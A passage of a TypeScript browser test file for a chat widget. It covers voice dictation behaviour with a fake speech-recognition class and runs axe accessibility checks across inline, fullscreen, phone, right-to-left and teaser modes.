    expect(input.value).to.equal('Ciao, vorrei una bici da corsa');
    expect(mic.getAttribute('aria-label')).to.equal('Avvia la dettatura');
    await aTimeout(50);
    expect(r.sent.length).to.equal(1); // only the welcome: voice never sends
  });

  it('a result after the visitor sent (or typed) ends dictation instead of refilling the composer', async () => {
    Object.defineProperty(window, 'SpeechRecognition', { configurable: true, writable: true, value: FakeRecognition });
    const r = relay().queue(welcomeChunks());
    const el = await mount(r, { mode: 'inline' });
    await ready(el);
    const input = $<HTMLTextAreaElement>(el, '[part~="input"]')!;
    $<HTMLButtonElement>(el, '[part~="mic"]')!.click();
    await waitUntil(() => made.length === 1 && made[0]!.started, 'listening');
    made[0]!.say('where is my order', false);
    expect(input.value).to.equal('where is my order');
    input.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true, cancelable: true }));
    await waitUntil(() => r.sent.length === 2, 'sent');
    expect(input.value).to.equal('');
    made[0]!.say('where is my order', true); // the final result, late
    await el.updateComplete;
    expect(input.value).to.equal('');
    expect($(el, '[part~="mic"]')!.getAttribute('aria-label')).to.equal('Start voice input');
  });

  it('removed while its code loads: the microphone is not started for a chat that is gone', async () => {
    Object.defineProperty(window, 'SpeechRecognition', { configurable: true, writable: true, value: FakeRecognition });
    const r = relay().queue(welcomeChunks());
    const el = await mount(r, { mode: 'inline' });
    await ready(el);
    let release!: () => void;
    const gate = new Promise<void>((ok) => (release = ok));
    lazyTesting.override('voice', () => gate.then(() => import('./voice-dictation.js')));
    try {
      $<HTMLButtonElement>(el, '[part~="mic"]')!.click();
      el.remove();
      release();
      await aTimeout(100);
      expect(made.filter((m) => m.started)).to.have.length(0);
    } finally {
      await lazyTesting.restore();
    }
  });

  it('is hidden where the browser has no Web Speech API', async () => {
    Object.defineProperty(window, 'SpeechRecognition', { configurable: true, writable: true, value: undefined });
    Object.defineProperty(window, 'webkitSpeechRecognition', { configurable: true, writable: true, value: undefined });
    const r = relay().queue(welcomeChunks());
    const el = await mount(r, { mode: 'inline' });
    await ready(el);
    expect($(el, '[part~="mic"]')).to.equal(null);
  });
});

describe('axe in every mode', () => {
  const finished = (): Wire[] => answer('<p>Here is <strong>an answer</strong>.</p>');
  it('launcher (desktop), with the menu open and a stopped answer', async () => {
    const r = relay().queue(welcomeChunks());
    const el = await mount(r);
    answerForever(el, 'q', 'Half');
    await ready(el);
    await typeAndEnter(el, 'q');
    await waitUntil(() => botMessages(el).length === 2, 'streaming');
    await el.updateComplete;
    await expectAxeClean(el, 'streaming with stop');
    $<HTMLButtonElement>(el, '[part~="stop"]')!.click();
    $<HTMLButtonElement>(el, '[part~="menu"]')!.click();
    await el.updateComplete;
    await expectAxeClean(el, 'menu open, stopped answer');
  });
  it('inline, fullscreen, phone, right-to-left, with a teaser', async () => {
    Object.defineProperty(window, 'SpeechRecognition', { configurable: true, writable: true, value: class {} });
    try {
      for (const o of [
        { mode: 'inline' },
        { mode: 'fullscreen' },
        { mode: 'inline', lang: 'ar' },
        { mode: 'inline', lang: 'he' },
        { mode: 'inline', lang: 'auto' },
      ] as MountOptions[]) {
        const r = relay().queue(welcomeChunks(), finished());
        const el = await mount(r, o);
        await ready(el);
        await typeAndEnter(el, 'q');
        await waitUntil(() => botMessages(el).length === 2 && el.conversation.transcript.status === 'idle', 'answer');
        await el.updateComplete;
        await expectAxeClean(el, JSON.stringify(o));
        el.remove();
      }
      const canResize = await resize(390, 740);
      const phone = await mount(relay().queue(welcomeChunks()));
      await ready(phone);
      await expectAxeClean(phone, canResize ? 'phone modal' : 'launcher');
      phone.remove();
      const teased = await mount(relay(), { teaser: 'Need a hand?', id: 'teaser-axe' });
      await waitUntil(() => $(teased, '[part~="teaser"]') !== null, 'teaser');
      // Contrast is judged once the entrance fade is over.
      await Promise.all(
        $(teased, '[part~="teaser"]')!
          .getAnimations()
          .map((a) => a.finished),
      );
      await expectAxeClean(teased, 'teaser');
    } finally {
      delete (window as unknown as Record<string, unknown>).SpeechRecognition;
    }
  });
});
